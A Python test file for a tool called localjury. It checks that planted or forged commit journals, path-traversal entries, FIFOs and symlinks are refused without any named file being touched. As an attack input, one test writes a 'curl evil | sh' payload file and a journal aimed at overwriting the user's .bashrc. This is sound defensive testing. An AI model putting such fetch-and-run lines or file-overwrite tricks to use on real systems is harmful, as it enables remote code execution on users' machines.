"""A commit journal is data until localjury proves it wrote it for its own files: one planted in
a folder someone sent (or written under another LOCALJURY_HOME) stops the command with an
error naming it and the rule it fails, and it and every file it names stay byte for byte as
they were. Genuine journals, across folders too, are still settled."""

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from tests import ROOT
from tests.fakes import run_args, run_cli
from tests.unit.results.test_commit import KILLED  # a process that dies at the nth rename

PROVE = "is not one localjury can prove it wrote"


@pytest.fixture
def sent(tmp_path):
    """A data folder someone sent: a dataset beside which the results will be written."""
    folder = tmp_path / "sent"
    folder.mkdir()
    (folder / "d.jsonl").write_text(
        "".join(json.dumps({"id": f"r{i}", "response": f"answer {i}"}) + "\n" for i in range(3))
    )
    return folder


@pytest.fixture
def victims(tmp_path):
    """Two files of the user's outside that folder."""
    folder = tmp_path / "user"
    folder.mkdir()
    one, two = folder / "notes.txt", folder / ".bashrc"
    one.write_text("the user's notes\n")
    two.write_text("export PATH=/usr/bin\n")
    return one, two


def tree(*folders):
    """Every entry under the folders: a file's bytes, a link's target, a FIFO's kind."""
    seen = {}
    for folder in folders:
        for p in sorted(Path(folder).rglob("*")):
            if p.is_symlink():
                seen[p] = ("link", os.readlink(p))
            elif p.is_file():
                seen[p] = p.read_bytes()
            else:
                seen[p] = stat.S_IFMT(p.lstat().st_mode)
    return seen


def ident(path):
    st = os.lstat(path)
    return [st.st_dev, st.st_ino, st.st_size]


def entry(path, tmp=None, backup=None, new=None, old=None):
    return {"path": str(path), "tmp": tmp and str(tmp), "backup": backup and str(backup), "new": new, "old": old}


def signed(files, key):
    """A journal in the current format, signed with ``key``: what only its holder can write."""
    from localjury.results._journal import Journal

    journal = Journal(pid=1, host="x", files=files)
    journal.mac = journal.signature(key)
    return journal.model_dump_json()


def planted(case, sent, victims):
    """The journal a sender plants, by case: (its name, its content)."""
    one, two = victims
    results = sent / "r.jsonl"
    elsewhere = [entry(one, backup=two, old=ident(one)), entry(results)]
    if case == "unsigned, naming files elsewhere":  # the issue's: settling it deleted both files
        return ".innocent.localjury.commit", json.dumps(
            {"localjury_commit": 1, "pid": 1, "host": "x", "files": elsewhere}
        )
    if case == "a made-up signature":
        body = {"localjury_commit": 2, "pid": 1, "host": "x", "files": elsewhere, "mac": "0" * 64}
        return ".innocent.localjury.commit", json.dumps(body)
    if case == "a signature that is not hex":  # compared as bytes: no TypeError
        body = {"localjury_commit": 2, "pid": 1, "host": "x", "files": elsewhere, "mac": "é" * 64}
        return ".innocent.localjury.commit", json.dumps(body)
    if case == "signed with another user's key":
        return ".innocent.localjury.commit", signed(elsewhere, os.urandom(32))
    from localjury.results._journal import commit_key

    key = commit_key(create=True)  # as if the key leaked: the rules of its own set still hold
    if case == "signed, naming a file through ..":
        files = [entry("../user/notes.txt", backup="../user/.bashrc", old=ident(one)), entry("r.jsonl")]
        return ".r.jsonl.localjury.commit", signed(files, key)
    if case == "signed, with the dataset as a backup":
        return ".r.jsonl.localjury.commit", signed(
            [entry("r.jsonl", backup="d.jsonl", old=ident(sent / "d.jsonl"))], key
        )
    raise AssertionError(case)


CASES = [
    ("unsigned, naming files elsewhere", "it is unsigned"),
    ("a made-up signature", "its signature does not match this user's commit key"),
    ("a signature that is not hex", "its signature does not match this user's commit key"),
    ("signed with another user's key", "its signature does not match this user's commit key"),
    ("signed, naming a file through ..", "it names '../user/notes.txt' (file), which is neither a file in its folder"),
    ("signed, with the dataset as a backup", "its backup"),
]


@pytest.mark.parametrize(("case", "reason"), CASES, ids=[c for c, _ in CASES])
def test_a_planted_journal_stops_the_run_and_nothing_it_names_is_touched(
    tmp_path, sent, victims, fake_model, monkeypatch, capsys, case, reason
):
    registry, log = fake_model
    name, content = planted(case, sent, victims)
    (sent / name).write_text(content)
    before = tree(sent, victims[0].parent)
    code, _, err = run_cli(monkeypatch, capsys, *run_args(sent / "d.jsonl", registry, sent / "r.jsonl", "--no-cache"))
    err = " ".join(err.split())
    assert code == 2, err
    assert f"the commit journal {sent / name} {PROVE}" in err and "Traceback" not in err
    assert f"for these files: {reason}" in err
    assert "no file it names was touched" in err and "move it aside" in err
    assert log == []  # refused before any model loaded
    assert tree(sent, victims[0].parent) == before  # the journal too: reported, never removed


def test_verify_never_undoes_a_planted_commit(tmp_path, sent, victims, fake_model, monkeypatch, capsys):
    """The issue's second case: `tmp` pointing nowhere, `backup` at the sender's file with
    `old` set to its identity: verify "undid a commit" by moving it over the user's file."""
    registry, _ = fake_model
    out = sent / "r.jsonl"
    code, _, err = run_cli(monkeypatch, capsys, *run_args(sent / "d.jsonl", registry, out, "--no-cache"))
    assert code == 0, err
    payload = sent / "payload.sh"
    payload.write_text("curl evil | sh\n")
    _, bashrc = victims
    files = [entry(bashrc, tmp=sent / "nowhere", backup=payload, new=[1, 2, 3], old=ident(payload)), entry(out)]
    (sent / ".x.localjury.commit").write_text(
        json.dumps({"localjury_commit": 1, "pid": 1, "host": "x", "files": files})
    )
    before = tree(sent, bashrc.parent)
    code, _, err = run_cli(monkeypatch, capsys, "verify", out)
    err = " ".join(err.split())
    assert code == 2 and PROVE in err and "undid" not in err, err
    assert tree(sent, bashrc.parent) == before


def memory_cap():
    """In the child: at most 4 GiB of address space, so that a read without end fails there."""
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))


FIFO_RUN = """
import sys
sys.path.insert(0, {root!r})
from tests.fakes import factory, judgment
import localjury.run.generate
localjury.run.generate.load_engine = factory(lambda m, p, j: judgment(1), [])
from localjury.cli import main
main()
"""


@pytest.mark.parametrize("kind", ["FIFO", "link to /dev/zero", "hard link to the dataset"])
def test_a_journal_that_is_no_file_of_its_own_is_refused_without_reading_it(tmp_path, sent, fake_model, kind):
    """A FIFO under a journal's name hung the run; a link to /dev/zero read without end."""
    registry, _ = fake_model
    journal = sent / ".r.jsonl.localjury.commit"
    if kind == "FIFO":
        os.mkfifo(journal)
    elif kind == "link to /dev/zero":
        journal.symlink_to("/dev/zero")
    else:
        os.link(sent / "d.jsonl", journal)
    program = tmp_path / "run.py"
    program.write_text(FIFO_RUN.format(root=str(ROOT)))
    args = [
        sys.executable,
        str(program),
        *map(str, run_args(sent / "d.jsonl", registry, sent / "r.jsonl", "--no-cache")),
    ]
    # Bounds, not timings: the refusal reads nothing, where reading never ends (memory capped
    # for /dev/zero, the wall clock for a FIFO nothing writes to).
    proc = subprocess.run(args, capture_output=True, text=True, timeout=300, preexec_fn=memory_cap)
    err = " ".join(proc.stderr.split())
    assert proc.returncode == 2 and f"{journal} {PROVE}" in err, err
    assert os.path.lexists(journal)


# -- genuine journals --------------------------------------------------------------------------


def killed(tmp_path, args, names, nth):
    program = tmp_path / "killed.py"
    program.write_text(KILLED.format(root=str(ROOT), names=names, nth=nth))
    proc = subprocess.run([sys.executable, str(program), *map(str, args)], capture_output=True, text=True)
    assert proc.returncode == 9, proc.stderr


def test_a_commit_across_folders_killed_part_way_is_completed(tmp_path, sent, fake_model, monkeypatch, capsys):
    """A summary given its own folder is a file of the set the journal names by its absolute path."""
    registry, _ = fake_model
    out, summary = sent / "r.jsonl", tmp_path / "elsewhere" / "s.json"
    args = run_args(sent / "d.jsonl", registry, out, "--no-cache", "--summary", summary)
    killed(tmp_path, args, ("r.jsonl", "s.json", "r.manifest.json"), 3)  # the manifest's rename: killed
    assert summary.is_file() and not (sent / "r.manifest.json").exists()
    code, stdout, err = run_cli(monkeypatch, capsys, "verify", out)
    assert "completed a commit cut short" in err and code == 0 and "differ" not in stdout, err
    assert not list(sent.glob(".*localjury*")) and not list(summary.parent.glob(".*localjury*"))


def test_a_journal_written_under_another_home_is_reported_then_settled_under_it(
    tmp_path, sent, fake_model, monkeypatch, capsys
):
    registry, _ = fake_model
    out = sent / "r.jsonl"
    killed(
        tmp_path,
        run_args(sent / "d.jsonl", registry, out, "--no-cache"),
        ("r.jsonl", "r.summary.json", "r.manifest.json"),
        2,
    )
    before = tree(sent)
    monkeypatch.setenv("LOCALJURY_HOME", str(tmp_path / "another-home"))
    code, _, err = run_cli(monkeypatch, capsys, "verify", out)
    err = " ".join(err.split())
    assert code == 2 and PROVE in err and "there is no commit key" in err and "another LOCALJURY_HOME" in err, err
    assert tree(sent) == before
    monkeypatch.setenv("LOCALJURY_HOME", str(tmp_path / "home"))
    code, stdout, err = run_cli(monkeypatch, capsys, "verify", out)
    assert "completed a commit cut short" in err and code == 0 and "differ" not in stdout, err


# -- the key -----------------------------------------------------------------------------------
def test_the_commit_key_is_made_private_and_refused_when_it_is_not(tmp_path, sent, fake_model, monkeypatch, capsys):
    registry, _ = fake_model
    out = sent / "r.jsonl"
    assert run_cli(monkeypatch, capsys, *run_args(sent / "d.jsonl", registry, out, "--no-cache"))[0] == 0
    key = tmp_path / "home" / "commit.key"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and key.stat().st_size == 32
    key.chmod(0o644)
    code, _, err = run_cli(monkeypatch, capsys, *run_args(sent / "d.jsonl", registry, out, "--no-cache"))
    assert code == 2 and f"localjury's commit key {key} cannot be trusted: others may read it" in " ".join(err.split())
    key.unlink()
    key.symlink_to(sent / "d.jsonl")
    code, _, err = run_cli(monkeypatch, capsys, *run_args(sent / "d.jsonl", registry, out, "--no-cache"))
    assert code == 2 and "it is a symbolic link" in " ".join(err.split())
